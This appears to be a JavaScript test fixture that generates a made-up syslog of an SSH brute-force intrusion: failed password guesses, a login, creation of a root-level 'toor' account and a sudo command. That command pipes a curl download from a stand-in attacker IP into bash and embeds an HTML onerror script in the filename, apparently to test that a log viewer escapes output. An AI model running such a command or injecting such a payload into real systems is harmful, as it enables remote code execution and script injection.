// Lines of a made-up machine's log: somebody guesses a password, gets in, makes an account and fetches a program.

export const HOST = "walk-host";

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const FROM = "203.0.113.9";

/** The lines, the last of them a moment before `now`. */
export function attackLog(now) {
  const steps = [
    ...Array.from({ length: 40 }, (_, at) => [2, `sshd[${700 + at}]: Failed password for deploy from ${FROM} port ${40_000 + at} ssh2`]),
    [2, `sshd[790]: Accepted password for deploy from ${FROM} port 40999 ssh2`],
    [300, "useradd[811]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"],
    [30, "usermod[812]: add 'toor' to group 'sudo'"],
    [60, `sudo:   deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl http://${FROM}/<img src=x onerror=window.wasRun=1>.sh | bash`],
  ];
  let time = now.getTime() - 1_000 * (60 + steps.reduce((sum, [seconds]) => sum + seconds, 0));
  return steps.map(([seconds, text]) => {
    time += seconds * 1_000;
    return `${stamp(new Date(time))} ${HOST} ${text}`;
  });
}

/** As syslog writes it, in UTC. */
function stamp(time) {
  const [hours, minutes, seconds] = [time.getUTCHours(), time.getUTCMinutes(), time.getUTCSeconds()].map((number) => String(number).padStart(2, "0"));
  return `${MONTHS[time.getUTCMonth()]} ${String(time.getUTCDate()).padStart(2, " ")} ${hours}:${minutes}:${seconds}`;
}
